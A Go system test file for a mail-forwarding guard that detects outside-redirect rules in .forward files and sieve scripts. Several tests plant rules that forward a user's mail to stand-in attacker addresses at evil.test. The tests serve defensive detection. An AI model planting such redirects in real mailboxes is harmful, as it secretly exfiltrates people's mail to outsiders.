package rights_test

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"relayguard/systemtest/forward/forwardtest"
)

// told plants a rule and waits for the alert.
func (w *world) told(t *testing.T, target string, plant func()) forwardtest.AlertRule {
	t.Helper()
	mark, began := w.hook.Mark(), time.Now()
	plant()
	r, came := w.hook.WaitRule(t, mark, "appeared", is(target))
	t.Logf("told after %v: %s in %s, written by %s, %v", came.Sub(began), r, r.Source, r.Writer, r.Classes)
	return r
}

// TestClosedHomes: what only its owner may read is found, watched and told of, with
// who wrote it, and the mail by it is proven.
func TestClosedHomes(t *testing.T) {
	w := start(t, true)
	w.hook.WaitBaseline(t)
	l := forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list")
	if l.Watch == nil || l.Watch.Method != "fanotify" || l.Watch.Error != "" || len(l.Watch.Gaps) > 0 {
		t.Errorf("the watch: %+v", l.Watch)
	}
	forwardFile, script := filepath.Join(w.alice.Home, ".forward"), filepath.Join(w.vmail.Home, "box", ".dovecot.sieve")
	alice, vmail, root := newWriter(t, w.alice.UID, w.alice.GID), newWriter(t, w.vmail.UID, w.vmail.GID), newWriter(t, 0, 0)
	for _, c := range []struct {
		by      *writer
		path    string
		line    string
		want    string
		uid     int
		strange bool
	}{
		{alice, forwardFile, "own@evil.test", w.alice.Name + " forward own@evil.test outside redirect", w.alice.UID, false},
		{vmail, script, `redirect "box@evil.test";`, "box sieve box@evil.test outside redirect", w.vmail.UID, false},
		{root, script, `redirect "strange@evil.test";`, "box sieve strange@evil.test outside redirect", 0, true},
	} {
		r := w.told(t, strings.Fields(c.want)[2], func() { c.by.plant(c.path, c.line) })
		if by := fmt.Sprintf("uid %d (", c.uid); r.String() != c.want || r.Source != c.path || !strings.HasPrefix(r.Writer, by) || slices.Contains(r.Classes, "writer") != c.strange {
			t.Errorf("%s in %s, written by %s, %v; want %s by %s", r, r.Source, r.Writer, r.Classes, c.want, by)
		}
	}
	mail := forwardtest.Send(t, w.Postfix, inbound, w.alice.Name+"@corp.test")
	forwardtest.WaitArrived(t, w.Postfix, mail, "own@evil.test", "")
	id := w.hook.Told(0, "appeared")[0].ID
	if s := forwardtest.Proven(t, w.Relay, mail, id); len(s.Mails) != 1 || s.Mails[0].How != "forwarded as" {
		t.Errorf("evidence: %+v", s.Mails)
	}
}

// TestHelperKilled: what is planted while the helper is away is told when it is back,
// nothing is told as gone, and the watch goes on.
func TestHelperKilled(t *testing.T) {
	w := start(t, true)
	w.hook.WaitBaseline(t)
	alice, vmail := newWriter(t, w.alice.UID, w.alice.GID), newWriter(t, w.vmail.UID, w.vmail.GID)
	w.told(t, "before@evil.test", func() { alice.plant(filepath.Join(w.alice.Home, ".forward"), "before@evil.test") })
	mark := w.hook.Mark()
	w.helper.Stop(t, syscall.SIGKILL)
	vmail.plant(filepath.Join(w.vmail.Home, "box", ".dovecot.sieve"), `redirect "away@evil.test";`)
	forwardtest.Until(t, "word of the helper's death", func() bool {
		l := forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list")
		return l.Watch != nil && l.Watch.Method != "fanotify"
	})
	if told := w.hook.Told(mark, "appeared"); len(told) > 0 {
		t.Errorf("told without a helper: %v", told)
	}
	w.told(t, "away@evil.test", func() { w.startHelper(t) })
	forwardtest.Until(t, "the watch of the new helper", func() bool {
		l := forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list")
		return l.Watch != nil && l.Watch.Method == "fanotify"
	})
	r := w.told(t, "after@evil.test", func() {
		vmail.plant(filepath.Join(w.vmail.Home, "box", ".dovecot.sieve"), `require "copy"; redirect :copy "away@evil.test"; redirect "after@evil.test";`)
	})
	if want := fmt.Sprintf("uid %d (", w.vmail.UID); !strings.HasPrefix(r.Writer, want) {
		t.Errorf("written by %s, want %s...", r.Writer, want)
	}
	for _, kind := range []string{"gone", "baseline", "changed"} {
		if told := w.hook.Told(mark, kind); slices.ContainsFunc(told, func(r forwardtest.AlertRule) bool { return r.Target == "before@evil.test" }) {
			t.Errorf("told as %s: %v", kind, told)
		}
	}
}

// TestNoHelper: without the helper the guard says so wherever somebody looks, and takes
// what it cannot read neither for a baseline nor for gone. When the helper is there it
// begins by itself.
func TestNoHelper(t *testing.T) {
	w := start(t, false)
	for _, command := range []string{"forwards list", "status", "check"} {
		var said string
		forwardtest.Until(t, command+" saying that there is no helper", func() bool {
			result, err := w.Relayguard(t.Context(), strings.Fields(command)...)
			must(t, err)
			said = strings.Join(strings.Fields(result.Stdout+result.Stderr), " ")
			return strings.Contains(said, "watch.sock")
		})
		t.Logf("%s: %s", command, said)
	}
	if told := w.hook.Since(0); slices.ContainsFunc(told, func(a forwardtest.Alert) bool { return a.Detail.Kind == "baseline" }) {
		t.Errorf("a baseline of what cannot be read: %+v", told)
	}
	alice := newWriter(t, w.alice.UID, w.alice.GID)
	alice.plant(filepath.Join(w.alice.Home, ".forward"), "early@evil.test")
	w.startHelper(t)
	w.hook.WaitBaseline(t)
	w.told(t, "late@evil.test", func() { alice.plant(filepath.Join(w.alice.Home, ".forward"), "late@evil.test") })
	w.away(t)
}

// away starts the guard again without its helper: what it knew stays known, and is
// not told a second time when the helper is back.
func (w *world) away(t *testing.T) {
	t.Helper()
	known := func() (all []string) {
		for _, r := range forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list").In(w.dir) {
			all = append(all, r.String())
		}
		return all
	}
	before, mark := known(), w.hook.Mark()
	must(t, w.StopGuard(syscall.SIGTERM))
	w.helper.Stop(t, syscall.SIGTERM)
	must(t, w.StartGuard(t.Context()))
	forwardtest.Until(t, "the guard missing its helper", func() bool {
		l := forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list")
		return l.Watch != nil && strings.Contains(l.Watch.Error, "watch.sock")
	})
	if now := known(); !slices.Equal(now, before) {
		t.Errorf("known without the helper: %v, before: %v", now, before)
	}
	w.startHelper(t)
	forwardtest.Until(t, "the watch of the new helper", func() bool {
		l := forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list")
		return l.Watch != nil && l.Watch.Method == "fanotify" && l.Watch.Error == ""
	})
	for _, kind := range []string{"appeared", "changed", "gone", "returned"} {
		for _, r := range w.hook.Told(mark, kind) {
			if strings.Contains(r.Source, w.dir) {
				t.Errorf("told as %s: %s", kind, r)
			}
		}
	}
}

// TestGuardKilled: a guard that is killed while it learns which mail went by a rule
// has each message once when it is back.
func TestGuardKilled(t *testing.T) {
	w := start(t, true)
	w.hook.WaitBaseline(t)
	alice := newWriter(t, w.alice.UID, w.alice.GID)
	r := w.told(t, "flood@evil.test", func() { alice.plant(filepath.Join(w.alice.Home, ".forward"), "flood@evil.test") })
	const rounds, each = 3, 20
	var mails []forwardtest.Sent
	for range rounds {
		for range each {
			mails = append(mails, forwardtest.Send(t, w.Postfix, inbound, w.alice.Name+"@corp.test"))
		}
		must(t, w.StopGuard(syscall.SIGKILL)) // of the last ones nothing is written yet, or half
		must(t, w.StartGuard(t.Context()))
	}
	last := mails[len(mails)-1]
	for _, m := range mails {
		forwardtest.WaitArrived(t, w.Postfix, m, "flood@evil.test", "")
	}
	forwardtest.Proven(t, w.Relay, last, r.ID)
	var s forwardtest.Shown
	forwardtest.Until(t, "evidence of all", func() bool {
		s = forwardtest.Ask[forwardtest.Shown](t, w.Relay, "forwards", "show", r.ID, "--mail", "--report")
		return len(s.Mails) >= len(mails) && !slices.ContainsFunc(s.Mails, func(m forwardtest.Mail) bool { return m.Status != "sent" })
	})
	count := map[string]int{}
	for _, m := range s.Mails {
		count[strings.Trim(m.MessageID, "<>")]++
	}
	for _, m := range mails {
		if count[m.ID] != 1 {
			t.Errorf("%s is there %d times", m.ID, count[m.ID])
		}
	}
	if s.Evidence.Mails != len(mails) || s.Report.Mails != len(mails) || s.Report.Delivered != len(mails) || len(s.Evidence.Gaps) > 0 {
		t.Errorf("evidence %+v, report %+v; want %d mails", s.Evidence, s.Report, len(mails))
	}
	if told := slices.DeleteFunc(w.hook.Told(0, "appeared"), func(about forwardtest.AlertRule) bool { return about.Target != "flood@evil.test" }); len(told) != 1 {
		t.Errorf("told %d times: %v", len(told), told)
	}
}
